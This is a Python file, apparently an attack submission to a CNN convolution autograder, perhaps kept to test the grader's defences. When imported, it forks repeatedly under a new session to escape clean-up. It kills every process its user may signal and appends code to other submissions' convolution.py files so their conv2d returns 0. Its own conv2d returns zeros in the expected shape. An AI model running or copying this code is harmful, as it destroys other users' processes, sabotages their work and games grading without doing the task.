"""Attack: At import, leaves its session and keeps moving (forks and exits every ~1 ms) so a snapshot-then-kill
clean-up misses it; each incarnation kills every process it may signal (classmates' workers under a shared uid),
and copies, then rewrites, any other submission's convolution.py it can find; conv2d returns zeros."""
import glob
import os
import signal
import time

import numpy as np

HEARTBEAT = "/tmp/cnn-catalogue-heartbeat-setsid_fork_loop"
PATTERNS = ("/run/cnn-autograder/*/scratch/convolution.py", "/tmp/cnn-*/*/convolution.py",
            "/tmp/cnn-*/*/*/convolution.py")


def haunt():
    deadline = time.time() + 20
    while time.time() < deadline:
        if os.fork() != 0:
            os._exit(0)                    # the parent leaves; the child carries on under a new pid
        try:
            with open(HEARTBEAT, "w") as file:
                file.write(str(time.time()))
        except OSError:
            pass
        try:
            os.kill(-1, signal.SIGKILL)    # every process this uid may signal, except itself
        except OSError:
            pass
        for path in [p for pattern in PATTERNS for p in glob.glob(pattern)]:
            try:
                with open(path, "a") as file:
                    file.write("\ndef conv2d(*args):\n    return 0\n")
            except OSError:
                pass
        time.sleep(0.001)


if os.fork() == 0:
    os.setsid()
    haunt()
    os._exit(0)

def conv_output_size(in_size, filter_size, stride=1, padding="VALID"):
    if padding == "SAME":
        return -(-in_size // stride)
    if padding == "VALID":
        return max(0, -(-(in_size - filter_size + 1) // stride))
    return max(0, (in_size - filter_size + 2 * padding) // stride + 1)


def output_shape(inputs, filters, strides, padding):
    """The right output shape (an attack does not need the values)."""
    s = [strides] if isinstance(strides, int) else list(strides)
    sh, sw = (s[0], s[0]) if len(s) == 1 else (s[0], s[1]) if len(s) == 2 else (s[1], s[2])
    n, h, w, _ = np.shape(inputs)
    kh, kw, _, k = np.shape(filters)
    if padding == "SAME":
        return n, -(-h // sh), -(-w // sw), k
    if padding != "VALID":
        h, w = h + sum(padding[1]), w + sum(padding[2])
    return n, max(0, (h - kh) // sh + 1), max(0, (w - kw) // sw + 1), k


def conv2d(inputs, filters, strides, padding):
    return np.zeros(output_shape(inputs, filters, strides, padding), np.float32)
